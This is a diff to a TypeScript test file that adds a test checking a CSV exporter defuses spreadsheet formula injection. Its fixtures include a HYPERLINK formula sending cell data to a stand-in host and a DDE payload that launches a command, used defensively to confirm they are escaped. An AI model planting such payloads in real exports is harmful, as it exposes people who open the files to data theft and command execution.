@@ -107,4 +107,38 @@ describe('events.it.csv and events.en.csv', () => {
     expect(csvField('a; b', ',')).toBe('a; b');
     expect(csvField('a; b', ';')).toBe('"a; b"');
   });
+
+  it('neutralises formulas (OWASP): a cell that starts with = + - @ tab or CR is read back as text', () => {
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const hostile = structuredClone(catalog) as Catalog;
+    formulas.forEach((formula, index) => {
+      hostile.events[index]!.title = { it: formula, en: formula };
+    });
+    hostile.applications[0]!.name = '=1+1';
+    const application = hostile.applications[0]!.id;
+    hostile.events[0]!.application = application;
+    for (const [locale, separator] of [
+      ['it', ';'],
+      ['en', ','],
+    ] as const) {
+      const text = eventsCsv(hostile, locale);
+      const rows = parseCsv(text.slice(1), separator);
+      formulas.forEach((formula, index) => {
+        // Quoted, and the leading apostrophe makes a spreadsheet keep the cell as text.
+        expect(rows[index + 1]![2]).toBe(`'${formula}`);
+        expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
+      });
+      expect(rows[1]![3]).toBe("'=1+1");
+      // No cell of the file starts with a formula character any more.
+      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(csvField('a = b', ',')).toBe('a = b');
+  });
 });
